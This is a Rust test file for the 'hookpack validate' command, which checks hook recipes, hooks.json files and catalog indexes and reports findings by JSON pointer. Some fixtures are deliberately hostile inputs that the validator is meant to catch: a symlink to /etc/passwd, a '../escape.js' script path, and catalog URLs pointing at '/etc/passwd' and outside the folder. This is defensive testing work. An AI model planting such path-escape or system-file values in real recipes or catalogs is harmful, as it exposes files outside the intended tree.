//! `hookpack validate`: every rule reported at its pointer, exit codes, hostile input.

use crate::common::*;
use serde_json::{json, Value};

#[test]
fn a_good_recipe_folder_passes() {
    let sb = Sandbox::new();
    write_recipe(&sb, "tool-gate", &manifest("tool-gate"));
    let (code, report) = validate_json(&sb, &["tool-gate"]);
    assert_eq!(code, 0, "{report:#}");
    assert_eq!(report["ok"], true);
    assert_eq!(report["paths"][0]["kind"], "recipe-folder");
    assert_eq!(findings(&report), []);
}

#[test]
fn recipe_rules_are_reported_at_their_pointers() {
    let sb = Sandbox::new();
    let m = json!({
        "schema": "hooks.recipe.v2",
        "id": "Wrong_Id",
        "version": "0.13.0-rc1",
        "min_cli": "1.2",
        "summary": "  ",
        "colour": "blue",
        "hooks": {
            "PreToolUse": [{ "matcher": "exec(", "hooks": [
                { "id": "a", "type": "command", "command": "node /abs/main.js", "async": true, "timeout": 0 },
                { "id": "a", "type": "command", "command": "node ../escape.js" },
                { "type": "command", "command": "node scripts/missing.js", "recipe": "x" }
            ]}],
            "Stop": [{ "matcher": "x", "hooks": [
                { "id": "s", "type": "command", "command": "node scripts/main.js", "failurePolicy": "deny" }
            ]}],
            "UserPromptSubmit": [{ "hooks": [
                { "id": "u", "type": "command", "command": "node 'scripts/main.js" },
                { "id": "v", "type": "command", "command": "echo hi" },
                { "id": "w", "type": "command", "command": "node -e 'process.exit(0)'" }
            ]}],
            "OnBoot": []
        }
    });
    write_recipe(&sb, "tool-gate", &m);
    let (code, r) = validate_json(&sb, &["tool-gate"]);
    assert_eq!(code, 1);
    for (pointer, code) in [
        ("/schema", "schema-mismatch"),
        ("/id", "recipe-id-invalid"),
        ("/version", "version-invalid"),
        ("/min_cli", "version-invalid"),
        ("/summary", "summary-empty"),
        ("/colour", "unknown-field"),
        ("/hooks/PreToolUse/0/matcher", "matcher-invalid"),
        ("/hooks/PreToolUse/0/hooks/0/async", "async-forbidden"),
        ("/hooks/PreToolUse/0/hooks/0/timeout", "timeout-too-small"),
        ("/hooks/PreToolUse/0/hooks/0/command", "script-path-unsafe"),
        ("/hooks/PreToolUse/0/hooks/1/id", "handler-id-duplicate"),
        ("/hooks/PreToolUse/0/hooks/1/command", "script-path-unsafe"),
        ("/hooks/PreToolUse/0/hooks/2", "handler-missing-id"),
        ("/hooks/PreToolUse/0/hooks/2/recipe", "recipe-field-set"),
        ("/hooks/PreToolUse/0/hooks/2/command", "script-missing"),
        ("/hooks/Stop/0/matcher", "matcher-ignored"),
        (
            "/hooks/Stop/0/hooks/0/failurePolicy",
            "failure-policy-event",
        ),
        (
            "/hooks/UserPromptSubmit/0/hooks/0/command",
            "command-unparsable",
        ),
        (
            "/hooks/UserPromptSubmit/0/hooks/1/command",
            "command-not-script",
        ),
        (
            "/hooks/UserPromptSubmit/0/hooks/2/command",
            "command-inline-code",
        ),
        ("/hooks/OnBoot", "unknown-event"),
    ] {
        assert_finding(&r, pointer, code);
    }
    // Every diagnostic in a JSON document carries a line and column.
    for d in r["diagnostics"].as_array().unwrap() {
        assert!(d["line"].as_u64().unwrap() >= 1, "{d}");
    }
}

#[test]
fn folder_name_must_equal_id() {
    let sb = Sandbox::new();
    write_recipe(&sb, "other-name", &manifest("tool-gate"));
    let (code, r) = validate_json(&sb, &["other-name"]);
    assert_eq!(code, 1);
    assert_finding(&r, "/id", "folder-id-mismatch");
}

#[test]
fn warnings_pass_unless_strict() {
    let sb = Sandbox::new();
    let mut m = manifest("tool-gate");
    m["extra_field"] = json!(1);
    write_recipe(&sb, "tool-gate", &m);
    let (code, r) = validate_json(&sb, &["tool-gate"]);
    assert_eq!(code, 0);
    assert_eq!(r["warnings"], 1);
    let (code, r) = validate_json(&sb, &["--strict", "tool-gate"]);
    assert_eq!(code, 1);
    assert_eq!(r["errors"], 1);
    assert_eq!(r["diagnostics"][0]["severity"], "error");
}

/// Found by review: a command that runs its script directly (`scripts/main.js`, no
/// interpreter) installed clean with the script 0644, and then every call failed with exit
/// 126, which a `failurePolicy: deny` gate turns into a deny of every tool call. Such a
/// script must have an execute bit (an error, in validate, pack and install alike) and
/// should start with `#!` (a warning: the shell would run it as a shell script). A source
/// tree's compiled script never has the bit.
#[cfg(unix)]
#[test]
fn a_script_run_directly_must_be_executable() {
    use std::os::unix::fs::PermissionsExt;
    let sb = Sandbox::new();
    let mut m = manifest("gate");
    m["hooks"]["PreToolUse"][0]["hooks"][0]["command"] = json!("scripts/main.js");
    let dir = write_recipe(&sb, "recipes/gate", &m);
    let script = dir.join("scripts/main.js");
    let mode = |m: u32| std::fs::set_permissions(&script, std::fs::Permissions::from_mode(m));
    let at = "/hooks/PreToolUse/0/hooks/0/command";
    mode(0o644).unwrap();
    let (code, r) = validate_json(&sb, &["recipes/gate"]);
    assert_eq!(code, 1, "{r:#}");
    assert_eq!(
        findings(&r),
        [(at.to_string(), "script-not-executable".to_string())]
    );
    let says = r["diagnostics"][0]["message"].as_str().unwrap();
    assert!(
        says.contains("exit 126") && says.contains("`node scripts/main.js`"),
        "{says}"
    );
    let o = sb
        .cmd()
        .args(["pack", "--recipes-dir", "recipes", "--out-dir", "out"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&o.stderr).contains("script-not-executable"));
    assert!(!sb.join("out").exists());

    mode(0o755).unwrap();
    let (code, r) = validate_json(&sb, &["recipes/gate"]);
    assert_eq!(code, 0, "{r:#}");
    assert_eq!(
        findings(&r),
        [(at.to_string(), "script-no-interpreter-line".to_string())]
    );
    sb.write(
        "recipes/gate/scripts/main.js",
        "#!/usr/bin/env node\nprocess.exit(0);\n",
    );
    mode(0o755).unwrap();
    let (code, r) = validate_json(&sb, &["recipes/gate"]);
    assert_eq!((code, findings(&r)), (0, vec![]), "{r:#}");
    // A program is run by the kernel, with no `#!` (found by review: it was warned of).
    std::fs::copy("/bin/true", &script).unwrap();
    mode(0o755).unwrap();
    let (code, r) = validate_json(&sb, &["--strict", "recipes/gate"]);
    assert_eq!((code, findings(&r)), (0, vec![]), "{r:#}");

    // A source tree: assemble writes `scripts/main.js` 0644 whatever `src/main.ts` is.
    write_ts_recipe(&sb, "src-recipes", "demo");
    let manifest_path = sb.join("src-recipes/demo/recipe.json");
    let mut m: Value = serde_json::from_slice(&std::fs::read(&manifest_path).unwrap()).unwrap();
    m["hooks"]["PreToolUse"][0]["hooks"][0]["command"] = json!("scripts/main.js");
    std::fs::write(&manifest_path, serde_json::to_vec_pretty(&m).unwrap()).unwrap();
    let (code, r) = validate_json(&sb, &["src-recipes/demo"]);
    assert_eq!(code, 1, "{r:#}");
    assert_finding(&r, at, "script-not-executable");
}

/// A warning can be let through `--strict` by its code, as CI needs for one it has looked
/// at (a valid bundle over validate's 1 MiB, `module-not-read`): the others still fail, in
/// every path's counts too. A code not written as codes are is refused.
#[test]
fn strict_lets_through_the_warnings_allowed_by_code() {
    let sb = Sandbox::new();
    let mut m = manifest("tool-gate");
    m["extra_field"] = json!(1);
    write_recipe(&sb, "tool-gate", &m);
    write_recipe(&sb, "other", &manifest("other"));
    let code_of = |r: &serde_json::Value| r["diagnostics"][0]["code"].as_str().unwrap().to_string();
    let (_, r) = validate_json(&sb, &["tool-gate"]);
    let code = code_of(&r);
    let (exit, r) = validate_json(&sb, &["--strict", "--allow", &code, "other", "tool-gate"]);
    assert_eq!(exit, 0, "{r:#}");
    assert_eq!(
        (r["errors"].as_u64(), r["warnings"].as_u64()),
        (Some(0), Some(1))
    );
    assert_eq!(r["paths"][1]["warnings"], 1, "{r:#}");
    assert_eq!(r["diagnostics"][0]["severity"], "warning");
    let (exit, r) = validate_json(&sb, &["--strict", "--allow", "readme-missing", "tool-gate"]);
    assert_eq!(exit, 1, "{r:#}");
    assert_eq!(r["paths"][0]["errors"], 1, "{r:#}");
    // An `--allow` that does nothing says so (found by review: a misspelt code looked like
    // one that failed to work).
    for (args, says) in [
        (
            &["--strict", "--allow", "readme-misssing"][..],
            "note: --allow readme-misssing: no finding has that code",
        ),
        (
            &["--allow", "readme-missing"][..],
            "note: --allow has no effect without --strict",
        ),
    ] {
        let o = sb
            .cmd()
            .arg("validate")
            .args(args)
            .arg("tool-gate")
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(err.contains(says), "{args:?}: {err}");
    }
    let o = sb
        .cmd()
        .args([
            "validate",
            "--strict",
            "--allow",
            "Module_Not_Read",
            "tool-gate",
        ])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains("`Module_Not_Read` is not a warning code"),
        "{err}"
    );
}

/// A misspelt field (`matchr`, whose group then matches every tool; `timout`; `summery`)
/// was named with the list of known fields only; the near one is named first (found by
/// review). A field near none keeps the message it had.
#[test]
fn a_misspelt_field_is_answered_with_the_near_one() {
    let sb = Sandbox::new();
    let mut m = manifest("tool-gate");
    let summary = m["summary"].take();
    m.as_object_mut().unwrap().remove("summary");
    m["summery"] = summary;
    m["x-note"] = json!(1);
    let group = &mut m["hooks"]["PreToolUse"][0];
    group["matchr"] = group["matcher"].take();
    group.as_object_mut().unwrap().remove("matcher");
    group["hooks"][0]["timout"] = json!(5);
    write_recipe(&sb, "tool-gate", &m);
    sb.write(
        "ws/.finclaw/hooks.json",
        json!({"descripton": "x", "hooks": {}}).to_string(),
    );
    let (_, r) = validate_json(&sb, &["tool-gate", "ws"]);
    let messages: Vec<&str> = r["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["code"] == "unknown-field")
        .map(|d| d["message"].as_str().unwrap())
        .collect();
    for want in [
        "unknown field `summery` (did you mean `summary`?); known fields: ",
        "unknown group field `matchr` (did you mean `matcher`?); a group has only `matcher` and `hooks`",
        "unknown handler field `timout` (did you mean `timeout`?); FinClaw skips a handler",
        "unknown top-level field `descripton` (did you mean `description`?); a hooks.json has",
        "unknown field `x-note`; known fields: ",
    ] {
        assert!(
            messages.iter().any(|m| m.starts_with(want)),
            "{want}: {messages:#?}"
        );
    }
}

/// Found by a README walk-through: a `hooks.json` handler with a field hosts do not know
/// (`timeoutMs`) was a warning to `validate` (exit 0), where `doctor` and `trust` take it as
/// the error it is: hosts skip that handler. In a `hooks.json` it is an error; in a
/// recipe's `recipe.json` a warning still (an error with `--strict`), as the recipe format
/// says.
#[test]
fn an_unknown_handler_field_in_a_hooks_json_is_an_error() {
    let sb = Sandbox::new();
    sb.write(
        "ws/.finclaw/hooks.json",
        json!({"hooks": {"Stop": [{"hooks": [
            {"type": "command", "command": "echo {}", "timeoutMs": 500}
        ]}]}})
        .to_string(),
    );
    let (code, r) = validate_json(&sb, &["ws/.finclaw/hooks.json"]);
    assert_eq!(code, 1, "{r:#}");
    let d = (r["diagnostics"].as_array().unwrap().iter())
        .find(|d| d["code"] == "unknown-field")
        .unwrap_or_else(|| panic!("{r:#}"));
    assert_eq!(d["severity"], "error", "{r:#}");
    assert_eq!(d["pointer"], "/hooks/Stop/0/hooks/0/timeoutMs", "{r:#}");
    let mut m = manifest("demo");
    m["hooks"]["PreToolUse"][0]["hooks"][0]["timeoutMs"] = json!(500);
    write_recipe(&sb, "demo", &m);
    let (code, r) = validate_json(&sb, &["demo"]);
    assert_eq!(code, 0, "{r:#}");
    let (code, _) = validate_json(&sb, &["--strict", "demo"]);
    assert_eq!(code, 1);
}

/// Walking a deep tree keeps one folder open at a time: a chain of folders, each with a file
/// beside the next folder, validates under a small open-file limit.
#[test]
fn a_deep_tree_validates_under_a_small_open_file_limit() {
    let sb = Sandbox::new();
    write_recipe(&sb, "tool-gate", &manifest("tool-gate"));
    let mut rel = String::from("tool-gate/data");
    for i in 0..150 {
        sb.write(&format!("{rel}/z{i}.txt"), "x");
        rel.push_str("/d");
    }
    let o = std::process::Command::new("sh")
        .arg("-c")
        .arg("ulimit -n 32 && exec \"$0\" validate tool-gate")
        .arg(assert_cmd::cargo::cargo_bin("hookpack"))
        .current_dir(sb.path())
        .output()
        .unwrap();
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    // The walk gets through; the one finding is that install refuses a tree this deep.
    assert!(!all.contains("Too many open files"), "{all}");
    assert!(
        all.contains("error[archive-uninstallable]: the archive exceeds the limit on path depth"),
        "{all}"
    );
    assert!(
        all.contains("validated 1 path (1 recipe): 1 error, 0 warnings"),
        "{all}"
    );
}

#[cfg(unix)]
#[test]
fn tree_faults_are_reported() {
    let sb = Sandbox::new();
    let dir = write_recipe(&sb, "tool-gate", &manifest("tool-gate"));
    std::os::unix::fs::symlink("/etc/passwd", dir.join("link")).unwrap();
    sb.write("tool-gate/node_modules/x/index.js", "x");
    sb.write("tool-gate/data.txt", "x");
    std::fs::hard_link(dir.join("data.txt"), dir.join("data2.txt")).unwrap();
    let fifo = dir.join("fifo");
    assert!(std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    let (code, r) = validate_json(&sb, &["tool-gate"]);
    assert_eq!(code, 1);
    let files: Vec<(String, String)> = r["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            (
                d["file"].as_str().unwrap().to_string(),
                d["code"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    for (suffix, code) in [
        ("tool-gate/link", "symlink"),
        ("tool-gate/node_modules", "node-modules"),
        ("tool-gate/data.txt", "hard-link"),
        ("tool-gate/fifo", "special-file"),
    ] {
        assert!(
            files.iter().any(|(f, c)| f.ends_with(suffix) && c == code),
            "{suffix} {code}: {files:#?}"
        );
    }
}

/// A `recipe.json` that is a fifo got two errors, "cannot read: is a fifo … expected a
/// regular file" and "fifos are not allowed in a recipe; remove it". It gets the first
/// only; nothing hangs reading it.
#[cfg(unix)]
#[test]
fn a_manifest_that_is_a_fifo_is_one_error() {
    let sb = Sandbox::new();
    let dir = write_recipe(&sb, "tool-gate", &manifest("tool-gate"));
    std::fs::remove_file(dir.join("recipe.json")).unwrap();
    assert!(std::process::Command::new("mkfifo")
        .arg(dir.join("recipe.json"))
        .status()
        .unwrap()
        .success());
    let (code, r) = validate_json(&sb, &["tool-gate"]);
    assert_eq!(code, 1);
    let found: Vec<(&str, &str)> = (r["diagnostics"].as_array().unwrap().iter())
        .map(|d| (d["file"].as_str().unwrap(), d["code"].as_str().unwrap()))
        .collect();
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(found[0].0.ends_with("tool-gate/recipe.json"), "{found:?}");
    assert!(
        r["diagnostics"][0]["message"]
            .as_str()
            .unwrap()
            .contains("expected a regular file"),
        "{r:#}"
    );
}

#[cfg(unix)]
#[test]
fn a_script_reached_through_a_link_is_refused() {
    let sb = Sandbox::new();
    let dir = write_recipe(&sb, "tool-gate", &manifest("tool-gate"));
    std::fs::remove_dir_all(dir.join("scripts")).unwrap();
    sb.write("elsewhere/main.js", "x");
    std::os::unix::fs::symlink(sb.join("elsewhere"), dir.join("scripts")).unwrap();
    let (code, r) = validate_json(&sb, &["tool-gate"]);
    assert_eq!(code, 1);
    assert_finding(&r, "/hooks/PreToolUse/0/hooks/0/command", "script-symlink");
}

#[test]
fn a_source_tree_needs_no_assembled_script() {
    let sb = Sandbox::new();
    sb.write(
        "recipes/tool-gate/recipe.json",
        serde_json::to_vec(&manifest("tool-gate")).unwrap(),
    );
    sb.write("recipes/tool-gate/README.md", "x");
    sb.write("recipes/tool-gate/src/main.ts", "export {};\n");
    sb.write("recipes/lib/hook.ts", "export const x = 1;\n");
    let (code, r) = validate_json(&sb, &["recipes"]);
    assert_eq!(code, 0, "{r:#}");
    assert_eq!(r["paths"][0]["kind"], "recipes-folder");
    // Without src/main.ts the script is simply missing.
    std::fs::remove_file(sb.join("recipes/tool-gate/src/main.ts")).unwrap();
    let (code, r) = validate_json(&sb, &["recipes"]);
    assert_eq!(code, 1);
    assert_finding(&r, "/hooks/PreToolUse/0/hooks/0/command", "script-missing");
}

/// What `assemble` or `test` would refuse is reported by `validate` too: a TypeScript error
/// at its line:column, an import that does not resolve, a fixture case with a typo.
#[test]
fn typescript_imports_and_fixture_cases_are_checked() {
    let sb = Sandbox::new();
    sb.write(
        "recipes/tool-gate/recipe.json",
        serde_json::to_vec(&manifest("tool-gate")).unwrap(),
    );
    sb.write("recipes/tool-gate/README.md", "x");
    sb.write(
        "recipes/tool-gate/src/main.ts",
        "import { x } from \"../../lib/hook.ts\";\nconst y: = x;\n",
    );
    sb.write("recipes/lib/hook.ts", "export const x = 1;\n");
    sb.write(
        "recipes/tool-gate/tests/deny.json",
        r#"{"name": "n", "event": "PreToolUse", "expect": {"decison": "deny"}}"#,
    );
    sb.write(
        "recipes/tool-gate/tests/event.json",
        r#"{"name": "n", "event": "PreToolUze", "expect": {"decision": "maybe"}}"#,
    );
    let (code, r) = validate_json(&sb, &["recipes"]);
    assert_eq!(code, 1, "{r:#}");
    let text = r.to_string();
    for code in [
        "typescript",
        "case-invalid",
        "case-event-unknown",
        "case-decision-unknown",
    ] {
        assert!(
            text.contains(&format!("\"{code}\"")),
            "{code} missing: {r:#}"
        );
    }
    // Found by review: the message sent the user to "SPEC 1.1", which no user has.
    let event = &findings_full(&r)["case-event-unknown"];
    assert_eq!(
        event["message"], "unknown event `PreToolUze`; did you mean `PreToolUse`?",
        "{event}"
    );
    let ts = &findings_full(&r)["typescript"];
    assert_eq!(
        (ts["line"].as_u64(), ts["column"].as_u64()),
        (Some(2), Some(10)),
        "{ts}"
    );
    // Fixed source, broken import: reported on the importing file, also for one folder.
    sb.write(
        "recipes/tool-gate/src/main.ts",
        "import { x } from \"../../lib/nope.ts\";\nexport const y = x;\n",
    );
    std::fs::remove_dir_all(sb.join("recipes/tool-gate/tests")).unwrap();
    let (code, r) = validate_json(&sb, &["recipes/tool-gate"]);
    assert_eq!(code, 1, "{r:#}");
    assert!(findings_full(&r).contains_key("import-unresolved"), "{r:#}");
    sb.write(
        "recipes/tool-gate/src/main.ts",
        "import { x } from \"../../lib/hook.ts\";\nexport const y = x;\n",
    );
    let (code, r) = validate_json(&sb, &["recipes/tool-gate"]);
    assert_eq!(code, 0, "{r:#}");
}

/// Each finding of a report by code (the last one of a code wins).
fn findings_full(r: &Value) -> std::collections::BTreeMap<String, Value> {
    r["diagnostics"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|d| {
            (
                d["code"].as_str().unwrap_or_default().to_string(),
                d.clone(),
            )
        })
        .collect()
}

#[test]
fn finclaw_hooks_layout_is_recognised() {
    let sb = Sandbox::new();
    write_recipe(&sb, "hooks/recipes/tool-gate", &manifest("tool-gate"));
    write_recipe(&sb, "hooks/recipes/bad-one", &manifest("bad-two"));
    sb.write("hooks/recipes/not-a-recipe/notes.txt", "x");
    sb.write("hooks/lib/util.ts", "export {};\n");
    let (code, r) = validate_json(&sb, &["hooks"]);
    assert_eq!(code, 1);
    assert_eq!(r["paths"][0]["kind"], "hooks-dir");
    let codes: Vec<String> = findings(&r).into_iter().map(|(_, c)| c).collect();
    assert!(
        codes.contains(&"folder-id-mismatch".to_string()),
        "{codes:?}"
    );
    assert!(
        codes.contains(&"recipe-manifest-missing".to_string()),
        "{codes:?}"
    );
}

/// A recipes folder that also holds a `hooks-index.json` (written there by hand, or left by
/// an old pack) is both: the index alone was checked, and the recipes passed unseen.
#[test]
fn a_recipes_folder_holding_an_index_has_its_recipes_checked_too() {
    let sb = Sandbox::new();
    write_recipe(&sb, "recipes/tool-gate", &manifest("tool-gate"));
    write_recipe(&sb, "recipes/bad-one", &manifest("bad-two"));
    sb.write(
        "recipes/hooks-index.json",
        serde_json::to_string(&index(json!([]))).unwrap(),
    );
    let (code, r) = validate_json(&sb, &["recipes"]);
    assert_eq!(code, 1, "{r:#}");
    let codes: Vec<String> = findings(&r).into_iter().map(|(_, c)| c).collect();
    assert_eq!(codes, ["folder-id-mismatch"], "{r:#}");

    // A catalog folder (archives, no recipe folders) is still only a catalog.
    std::fs::remove_dir_all(sb.join("recipes/bad-one")).unwrap();
    std::fs::remove_dir_all(sb.join("recipes/tool-gate")).unwrap();
    let (code, r) = validate_json(&sb, &["recipes"]);
    assert_eq!(code, 0, "{r:#}");
    assert_eq!(r["paths"][0]["kind"], "catalog-folder", "{r:#}");
}

#[test]
fn an_empty_recipes_folder_is_an_error() {
    let sb = Sandbox::new();
    std::fs::create_dir(sb.join("recipes")).unwrap();
    let (code, r) = validate_json(&sb, &["recipes"]);
    assert_eq!(code, 1);
    assert_finding(&r, "", "no-recipes");
}

#[test]
fn hooks_json_rules_and_duplicate_keys() {
    let sb = Sandbox::new();
    sb.write(
        "hooks.json",
        r#"{
  "hooks": {
    "PreToolUse": [
      { "matcher": "exec", "hooks": [
        { "type": "command", "command": "node a.js", "id": "x", "timeout": 1.5 },
        { "type": "command", "command": "node b.js", "id": "x", "failurePolicy": "allow" }
      ] }
    ],
    "SessionStart": [ { "hooks": [ { "type": "command", "command": "x", "async": true, "async": true } ] } ],
    "PreCompact": [ { "hooks": [ { "type": "command", "command": "x" } ] } ]
  }
}"#,
    );
    let (code, r) = validate_json(&sb, &["hooks.json"]);
    assert_eq!(code, 1);
    assert_finding(
        &r,
        "/hooks/PreToolUse/0/hooks/0/timeout",
        "timeout-not-integer",
    );
    assert_finding(&r, "/hooks/PreToolUse/0/hooks/1/id", "handler-id-duplicate");
    assert_finding(
        &r,
        "/hooks/PreToolUse/0/hooks/1/failurePolicy",
        "failure-policy-value",
    );
    assert_finding(&r, "/hooks/SessionStart/0/hooks/0/async", "duplicate-key");
    assert_finding(&r, "/hooks/SessionStart/0/hooks/0/async", "async-forbidden");
    assert_finding(&r, "/hooks/PreCompact", "event-never-spawned");
    let dup = r["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["code"] == "duplicate-key")
        .unwrap();
    assert_eq!(
        (dup["line"].as_u64(), dup["column"].as_u64()),
        (Some(9), Some(88))
    );
}

/// A hand-written command with a quote left open passed `validate` in silence, and the
/// shell refuses it with a syntax error, exit 2 and a message on stderr: a block of every
/// tool call the handler sees. Where the splitter could misread a quote (a `#` comment,
/// `$'…'`, a here-document, a command substitution), nothing is said.
#[test]
fn a_hand_written_command_with_an_open_quote_is_warned_of() {
    let sb = Sandbox::new();
    sb.write(
        "hooks.json",
        r#"{"hooks":{"PreToolUse":[{"matcher":"exec","hooks":[
{"type":"command","command":"sh 'guard.sh","id":"open"},
{"type":"command","command":"sh guard.sh # it's fine","id":"comment"},
{"type":"command","command":"sh guard.sh $'it\\'s'","id":"ansi"},
{"type":"command","command":"sh guard.sh \"$(printf \"%s\" \"it's\")\"","id":"substitution"}]}]}}"#,
    );
    let (code, r) = validate_json(&sb, &["hooks.json"]);
    assert_eq!(code, 0, "a warning only: {r:#}");
    let found: Vec<_> = r["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["code"] == "command-unparsable")
        .collect();
    assert_eq!(found.len(), 1, "{r:#}");
    assert_eq!(found[0]["pointer"], "/hooks/PreToolUse/0/hooks/0/command");
    assert_eq!(found[0]["severity"], "warning");
    assert_eq!((found[0]["line"].as_u64()), Some(2), "{r:#}");
    let msg = found[0]["message"].as_str().unwrap();
    assert!(
        msg.contains("unterminated single quote") && msg.contains("block"),
        "{msg}"
    );
}

#[test]
fn hand_written_hooks_json_may_use_stamps_and_no_ids() {
    let sb = Sandbox::new();
    sb.write(
        ".finclaw/hooks.json",
        r#"{"description":"local","hooks":{"PreToolUse":[{"matcher":"*","hooks":[{"type":"command","command":"node /home/me/guard.js","recipe":"tool-gate","id":"gate"}]}]}}"#,
    );
    let (code, r) = validate_json(&sb, &[".finclaw/hooks.json"]);
    assert_eq!(code, 0, "{r:#}");
    assert_eq!(r["paths"][0]["kind"], "hooks-file");
}

#[test]
fn a_profile_or_workspace_folder_has_its_hooks_json_checked() {
    // Found by a new-user walk-through: `validate PROFILE` took the profile for a folder
    // of recipes and reported hooks/ and logs/ as recipes without a recipe.json.
    let sb = Sandbox::new();
    let bad = r#"{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"x","timeout":0}]}]}}"#;
    sb.write("prof/hooks.json", bad);
    std::fs::create_dir_all(sb.join("prof/hooks/tool-gate")).unwrap();
    std::fs::create_dir_all(sb.join("prof/logs")).unwrap();
    sb.write("ws/.finclaw/hooks.json", bad);
    std::fs::create_dir_all(sb.join("ws/src")).unwrap();
    for (dir, file) in [
        ("prof", "prof/hooks.json"),
        ("ws", "ws/.finclaw/hooks.json"),
    ] {
        let (code, r) = validate_json(&sb, &[dir]);
        assert_eq!(code, 1, "{r:#}");
        assert_eq!(r["paths"][0]["kind"], "hooks-file", "{r:#}");
        let codes: Vec<_> = findings(&r).into_iter().map(|(_, c)| c).collect();
        assert_eq!(codes, ["timeout-too-small"], "{r:#}");
        assert!(
            r["diagnostics"][0]["file"]
                .as_str()
                .unwrap()
                .ends_with(file),
            "{r:#}"
        );
    }
}

fn index(recipes: Value) -> Value {
    json!({ "schema": "hooks.catalog.v1", "updated_at": "2026-11-29T00:00:00Z", "recipes": recipes })
}

fn entry(id: &str, latest: &str, versions: &[(&str, &str)]) -> Value {
    json!({
        "id": id, "name": id, "summary": "s", "latest": latest, "min_cli": "0.13.0",
        "versions": versions.iter().map(|(v, sha)| json!({
            "version": v, "url": format!("hooks-{id}-{v}.tar.gz"), "sha256": sha, "min_cli": "0.13.0"
        })).collect::<Vec<_>>()
    })
}

const SHA: &str = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";

#[test]
fn catalog_rules() {
    let sb = Sandbox::new();
    let good = index(json!([
        entry("a", "0.2.0", &[("0.2.0", SHA), ("0.1.0", SHA)]),
        entry("b", "1.0.0", &[("1.0.0", SHA)])
    ]));
    sb.write("good/hooks-index.json", serde_json::to_vec(&good).unwrap());
    let (code, r) = validate_json(&sb, &["good"]);
    assert_eq!(code, 0, "{r:#}");
    assert_eq!(r["paths"][0]["kind"], "catalog-folder");

    let mut bad = index(json!([
        entry("b", "0.3.0", &[("0.2.0", &SHA.to_uppercase())]),
        entry("a", "1.0.0", &[("1.0.0", SHA), ("1.0.0", SHA)]),
        entry("a", "1.0.0", &[("1.0.0", SHA)]),
    ]));
    bad["updated_at"] = json!("yesterday");
    bad["recipes"][1]["min_cli"] = json!("0.14.0");
    bad["recipes"][1]["versions"][0]["url"] = json!("ftp://x/a.tgz");
    sb.write("bad.json", serde_json::to_vec_pretty(&bad).unwrap());
    let (code, r) = validate_json(&sb, &["bad.json"]);
    assert_eq!(code, 1);
    assert_eq!(r["paths"][0]["kind"], "catalog-index");
    for (p, c) in [
        ("/updated_at", "timestamp-invalid"),
        ("/recipes/0/latest", "latest-not-listed"),
        ("/recipes/0/versions/0/sha256", "sha256-invalid"),
        ("/recipes/1/id", "recipes-unsorted"),
        ("/recipes/1/min_cli", "min-cli-mismatch"),
        ("/recipes/1/versions/0/url", "url-invalid"),
        ("/recipes/1/versions/1/version", "version-duplicate"),
        ("/recipes/2/id", "recipe-id-duplicate"),
    ] {
        assert_finding(&r, p, c);
    }

    // Found by a hostile sweep: a `url` leaving the catalog folder passed `validate` of the
    // folder in silence, where `catalog verify` of it fails and `pack` warns. A warning:
    // served over HTTP, `../x` resolves against the index's URL.
    let mut out = good.clone();
    out["recipes"][0]["versions"][0]["url"] = json!("../elsewhere/a-0.2.0.tar.gz");
    out["recipes"][1]["versions"][0]["url"] = json!("/etc/passwd");
    sb.write("good/hooks-index.json", serde_json::to_vec(&out).unwrap());
    let (code, r) = validate_json(&sb, &["good"]);
    assert_eq!(code, 0, "{r:#}");
    for p in ["/recipes/0/versions/0/url", "/recipes/1/versions/0/url"] {
        assert_finding(&r, p, "url-outside");
    }
    let (code, _) = validate_json(&sb, &["--strict", "good"]);
    assert_eq!(code, 1);
}

#[test]
fn text_and_github_formats_name_file_line_and_column() {
    let sb = Sandbox::new();
    sb.write("hooks.json", "{\"hooks\": {\n  \"Stop\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"x\", \"timeout\": 0}]}]\n}}\n");
    let out = sb.cmd().args(["validate", "hooks.json"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        text.starts_with("hooks.json:2:70: error[timeout-too-small]:"),
        "{text}"
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("1 error"));
    let out = sb
        .cmd()
        .args(["validate", "--format", "github", "hooks.json"])
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        text.starts_with(
            "::error file=hooks.json,line=2,col=70,title=hookpack timeout-too-small::"
        ),
        "{text}"
    );
    // A path given absolute (`"$PWD/hooks.json"`) is annotated relative to the checkout
    // ($GITHUB_WORKSPACE, else the current folder), where GitHub looks for it; one outside
    // it stays as given.
    sb.write(
        "sub/hooks.json",
        std::fs::read(sb.join("hooks.json")).unwrap(),
    );
    let absolute = sb.join("sub/hooks.json");
    for (workspace, current, shown) in [
        (None, sb.path().to_path_buf(), "sub/hooks.json".to_string()),
        (
            Some(sb.path()),
            sb.join("sub"),
            "sub/hooks.json".to_string(),
        ),
        (
            Some(std::path::Path::new("/nonexistent-checkout")),
            sb.path().to_path_buf(),
            absolute.display().to_string(),
        ),
    ] {
        let mut cmd = sb.cmd();
        match workspace {
            Some(w) => cmd.env("GITHUB_WORKSPACE", w),
            None => cmd.env_remove("GITHUB_WORKSPACE"),
        };
        let out = cmd
            .current_dir(&current)
            .args(["validate", "--format", "github"])
            .arg(&absolute)
            .output()
            .unwrap();
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(
            text.starts_with(&format!("::error file={shown},line=2,col=70,")),
            "{workspace:?} {current:?}: {text}"
        );
    }
}

#[test]
